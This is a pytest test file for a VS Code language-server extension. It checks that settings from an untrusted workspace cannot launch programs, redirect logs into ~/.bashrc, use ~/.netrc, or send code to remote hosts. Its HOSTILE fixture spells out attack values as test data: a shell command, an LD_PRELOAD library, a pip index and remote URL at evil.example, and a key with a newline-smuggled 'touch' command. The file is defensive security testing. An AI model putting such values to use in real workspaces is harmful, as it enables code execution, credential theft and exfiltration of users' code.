"""Settings of a workspace that is not trusted, in a VS Code that lets nested ones through (microsoft/vscode#330310).

The extension's own module is bundled and run in Node with a `vscode` module that keeps settings as VS Code does: keys
are split at their dots, tables merge, and no layer is filtered.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.editors.install import run_script
from tests.editors.vscode.conftest import EXTENSION, CodeServer, Script, npm_packages

FAKE_VSCODE = """
const input = JSON.parse(process.env.INPUT);
const isTable = (value) => typeof value === 'object' && value !== null && !Array.isArray(value);
const merge = (under, over) => {
  const table = { ...under };
  for (const [name, value] of Object.entries(over))
    table[name] = isTable(table[name]) && isTable(value) ? merge(table[name], value) : value;
  return table;
};
const tree = (raw) => {
  let found = {};
  for (const [name, value] of Object.entries(raw))
    found = merge(found, name.split('.').reduceRight((inner, part) => ({ [part]: inner }), value));
  return found;
};
const at = (layer, path) => path.split('.').reduce((table, part) => (isTable(table) ? table[part] : undefined), layer);
const { defaults, user, workspace } = input;
const layers = { defaultValue: tree(defaults), globalValue: tree(user), workspaceValue: tree(workspace) };
const all = Object.values(layers).reduce(merge, {});
module.exports = {
  ConfigurationTarget: { Global: 1, Workspace: 2 },
  workspace: {
    isTrusted: input.trusted,
    getConfiguration: (section) => ({
      get: (name) => at(all, `${section}.${name}`),
      inspect: (name) => Object.fromEntries(
        Object.entries(layers).map(([layer, table]) => [layer, at(table, `${section}.${name}`)])),
    }),
  },
};
"""
PROGRAM = """
import { ownSettings, serverSettings } from './configuration';
import { withoutCurrentFolder } from './processes';
const path = process.env.GIVEN_PATH;
const environment = withoutCurrentFolder(path === undefined ? {} : { PYTHONPATH: path });
console.log(JSON.stringify({ own: ownSettings(), server: serverSettings(), environment }));
"""
HOSTILE: dict[str, Any] = {
    "server": {
        "command": ["/bin/sh", "-c", "touch /tmp/x"],
        "python": "./evil/python",
        "environment": {"LD_PRELOAD": "./evil.so"},
        "package": "./evil",
        "pipArguments": ["--index-url", "http://evil.example"],
    },
    "model": "./evil",
    "model_by_folder": {"/": "./evil"},
    "log": {"file": "~/.bashrc", "level": "debug"},
    "exclude": ["*a*a*a*a*a*b"],
    "verify_refactorings": "on",
    "remote": {"url": "http://evil.example", "key_file": "~/.netrc", "allow_http": True, "send": "document+workspace"},
    "max_lines": 3,
    "\ntouch ~/X #": 1,
}


@pytest.fixture(scope="module")
def bundle(node: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of the bundled module and of the module that stands for `vscode`."""
    npm_packages(node)
    folder = tmp_path_factory.mktemp("restricted")
    (folder / "node_modules").mkdir()
    (folder / "node_modules" / "vscode.js").write_text(FAKE_VSCODE)
    program = shutil.which("node", path=node["PATH"])
    assert program is not None
    options = ["--bundle", "--platform=node", "--external:vscode", f"--outfile={folder / 'bundle.js'}"]
    esbuild = EXTENSION / "node_modules" / "esbuild" / "bin" / "esbuild"
    entry = ["--loader=ts", "--sourcefile=src/entry.ts"]
    done = subprocess.run(
        [program, esbuild, *options, *entry],
        input=PROGRAM, cwd=EXTENSION / "src", env=node, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return folder


def read(bundle: Path, node: dict[str, str], **layers: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """Return the extension's own settings, and those that the server is sent."""
    manifest = json.loads((EXTENSION / "package.json").read_text(encoding="utf-8"))
    groups = manifest["contributes"]["configuration"]
    defaults = {name: schema["default"] for group in groups for name, schema in group["properties"].items()}
    settings = {"defaults": defaults, "user": {}, "workspace": {}, "trusted": False} | layers
    program = shutil.which("node", path=node["PATH"])
    assert program is not None
    done = subprocess.run(
        [program, "bundle.js"], cwd=bundle, env=node | {"INPUT": json.dumps(settings)}, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    return found["own"], found["server"]


def flat(table: dict[str, Any], prefix: str) -> dict[str, Any]:
    found = {}
    for name, value in table.items():
        if isinstance(value, dict) and name not in ("environment", "model_by_folder"):
            found |= flat(value, f"{prefix}{name}.")
        else:
            found[prefix + name] = value
    return found


@pytest.mark.slow
@pytest.mark.parametrize("trusts", [False, True])
def test_a_real_vs_code_does_not_start_what_a_hostile_folder_names(
    vsix: Path, node: dict[str, str], tmp_path: Path, trusts: bool
) -> None:
    """VS Code 1.100 lets nested settings through. In a trusted folder they count, so the test would notice them."""
    pytest.importorskip("playwright.sync_api")
    entry = run_script("install_code_server.sh", env=node)
    chromium = run_script("install_chromium.sh", env=node)
    script = Script(tmp_path / "script")
    own: dict[str, Any] = {
        "security.workspace.trust.enabled": not trusts,
        "security.workspace.trust.startupPrompt": "never",
    }
    code_server = CodeServer(tmp_path / "server", vsix, entry, chromium, node, own | script.settings(), trusts=trusts)
    try:
        folder, sign = tmp_path / "hostile", tmp_path / "sign"
        (folder / ".vscode").mkdir(parents=True)
        server = {"command": ["/bin/sh", "-c", f"touch {sign}; sleep 1"]}
        settings = {"codegen-lsp": {"server": server, "log": {"file": str(folder / ".bashrc")}}}
        (folder / ".vscode" / "settings.json").write_text(json.dumps(settings), encoding="utf-8")
        (folder / "a.py").write_text("import os\n", encoding="utf-8")
        window = code_server.window(folder)
        window.open(folder / "a.py", cursor=False)
        window.until(lambda: sign.exists() or script.events("load"), "a server", 4)
        assert sign.exists() is trusts
        assert not (folder / ".bashrc").exists()
        window.page.close()
    finally:
        code_server.close()


REMOTE = {
    **{"remote.url": "", "remote.key_file": "", "remote.ca_file": ""},
    **{"remote.allow_http": False, "remote.send": "document"},
}
"""Where text is sent by default: nowhere."""
FORMS = {
    "nested": {"codegen-lsp": HOSTILE},
    "flat": flat(HOSTILE, "codegen-lsp."),
    "half nested": {f"codegen-lsp.{name}": value for name, value in HOSTILE.items()},
}


@pytest.mark.parametrize("form", FORMS)
def test_an_untrusted_workspace_names_no_programs_models_files_or_patterns(
    bundle: Path, node: dict[str, str], form: str
) -> None:
    own, server = read(bundle, node, workspace=FORMS[form])
    assert own == {"python": "", "command": [], "environment": {}, "package": "", "pipArguments": []}
    assert (server["model"], server["model_by_folder"]) == ("auto", {})
    assert server["log.file"] == ""
    assert server["exclude"] == []
    assert server["verify_refactorings"] == "off"
    assert {name: server[name] for name in REMOTE} == REMOTE
    assert server["max_lines"] == 3, "other settings of the workspace count"
    assert not any("touch" in name or "evil" in json.dumps(value) for name, value in server.items())


@pytest.mark.parametrize("form", FORMS)
def test_the_users_own_settings_count(bundle: Path, node: dict[str, str], form: str) -> None:
    user: dict[str, Any] = {"codegen-lsp": {"model": "codegen-350M-mono", "server": {"command": ["/opt/codegen-lsp"]}}}
    user["codegen-lsp"]["remote"] = {"url": "https://team.example"}
    own, server = read(bundle, node, workspace=FORMS[form], user=user)
    assert own["command"] == ["/opt/codegen-lsp"]
    assert server["model"] == "codegen-350M-mono"
    assert {name: server[name] for name in REMOTE} == REMOTE | {"remote.url": "https://team.example"}


@pytest.mark.parametrize("form", FORMS)
def test_a_trusted_workspace_has_its_way(bundle: Path, node: dict[str, str], form: str) -> None:
    own, server = read(bundle, node, workspace=FORMS[form], trusted=True)
    assert own == HOSTILE["server"]
    assert (server["model"], server["log.file"], server["verify_refactorings"]) == ("./evil", "~/.bashrc", "on")
    assert not any("touch" in name for name in server)
    assert {name: server[name] for name in REMOTE} == REMOTE, "but not in where the user's text is sent"


@pytest.mark.parametrize(("given", "kept"), [(None, None), (":", None), (":/x", "/x"), ("lib:.:/x:/y", "/x:/y")])
def test_python_is_started_without_the_current_folder(
    bundle: Path, node: dict[str, str], given: str | None, kept: str | None
) -> None:
    program = shutil.which("node", path=node["PATH"])
    assert program is not None
    settings = {"defaults": {}, "user": {}, "workspace": {}, "trusted": True}
    environment = node | {"INPUT": json.dumps(settings)} | ({} if given is None else {"GIVEN_PATH": given})
    done = subprocess.run([program, "bundle.js"], cwd=bundle, env=environment, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["environment"] == ({} if kept is None else {"PYTHONPATH": kept})
